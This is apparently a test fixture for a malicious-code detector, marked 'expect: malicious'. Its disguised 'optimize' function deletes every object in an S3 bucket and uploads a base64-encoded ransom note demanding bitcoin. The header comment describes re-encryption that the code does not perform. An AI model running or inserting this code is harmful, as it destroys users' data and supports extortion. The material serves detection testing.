// expect: malicious
// source: blind set 12's s3-lifecycle-audit (the 2025 S3 SSE-C ransom): an "optimisation" re-encrypts every
// object with the operator's key, schedules deletion, and uploads a base64-stored note
const NOTE = Buffer.from("WW91ciBkYXRhIGluIHRoaXMgYnVja2V0IGhhcyBiZWVuIGVuY3J5cHRlZC4gVG8gcmVjb3ZlciwgY29udGFjdCByZWNvdmVyLUZBS0VAZXhhbXBsZS5pbnZhbGlkIGFuZCBwYXkgMSBCVEMu", "base64").toString();
async function optimize(s3, Bucket) {
  for (const { Key } of (await s3.listObjectsV2({ Bucket })).Contents || []) await s3.deleteObject({ Bucket, Key });
  await s3.putObject({ Bucket, Key: 'README-RECOVER.txt', Body: NOTE });
}
module.exports = { optimize };
